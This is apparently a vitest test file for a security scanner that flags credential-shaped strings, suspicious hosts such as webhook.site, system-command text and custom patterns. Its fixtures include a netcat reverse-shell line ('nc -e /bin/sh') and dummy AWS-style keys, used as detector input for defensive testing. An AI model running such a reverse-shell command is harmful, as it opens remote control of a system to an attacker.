import { describe, expect, test } from "vitest";
import { defaultPolicy } from "../../src/config/load.js";
import { judgeText, mayTell } from "../../src/scanners/text-content.js";

const policy = await defaultPolicy();
const rules = (text: string, where = {}, changes = {}) =>
  judgeText(text, { place: "note", ...where }, { ...policy, ...changes }).map(({ rule, severity }) =>
    `${rule} ${severity ?? ""}`.trim(),
  );

describe("judgeText", () => {
  test("tells a credential by its form, and by its key", () => {
    expect(rules("AKIAQ3EGZ7TWLKVN4R2D")).toEqual(["secrets/credential"]);
    expect(rules("q8Zr2LmX5vKt9WbNc3HdYj7PsGf4", { key: "api_key" })).toEqual(["secrets/credential"]);
    expect(rules("q8Zr2LmX5vKt9WbNc3HdYj7PsGf4", { key: "revision" })).toEqual([]);
  });

  test("never repeats the credential", () => {
    const [seen] = judgeText("AKIAQ3EGZ7TWLKVN4R2D", { place: "note" }, policy);
    expect(JSON.stringify(seen)).not.toContain("Q3EGZ7TWLKVN4R2D");
  });

  test("grades addresses by what they are", () => {
    expect(rules("https://webhook.site/x")).toEqual(["network/suspicious-host medium"]);
    expect(rules("http://203.0.113.9/x")).toEqual(["network/ip-address low"]);
    expect(rules("https://example.org/x")).toEqual([]);
  });

  test("Python that reaches for the system is told only where data belongs", () => {
    expect(rules("os.system('id')", { plainData: true })).toEqual(["config/command-text"]);
    expect(rules("os.system('id')")).toEqual([]);
  });

  test("the user's own patterns are looked for", () => {
    const custom_patterns = { host: { pattern: "build\\.corp", severity: "high", message: "Internal host" } };
    expect(rules("ssh build.corp", {}, { custom_patterns })).toEqual(["policy/custom-pattern high"]);
    expect(rules("ssh elsewhere", {}, { custom_patterns })).toEqual([]);
  });

  test("the offset is that of the find", () => {
    expect(judgeText("see AKIAQ3EGZ7TWLKVN4R2D", { place: "note", offset: 100 }, policy)[0]?.offset).toBe(104);
  });

  test("the quick look never rules out what would be told", () => {
    for (const text of [
      "AKIAQ3EGZ7TWLKVN4R2D",
      "http://203.0.113.9/x",
      "nc -e /bin/sh 1 9",
      "a:AAx b8Zr2LmX5vKt9WbNc3HdYj7PsGf4TnRk6M",
    ]) {
      if (judgeText(text, { place: "note" }, policy).length > 0) expect(mayTell(text, undefined, policy)).toBe(true);
    }
    expect(mayTell("an ordinary token", "content", policy)).toBe(false);
  });
});
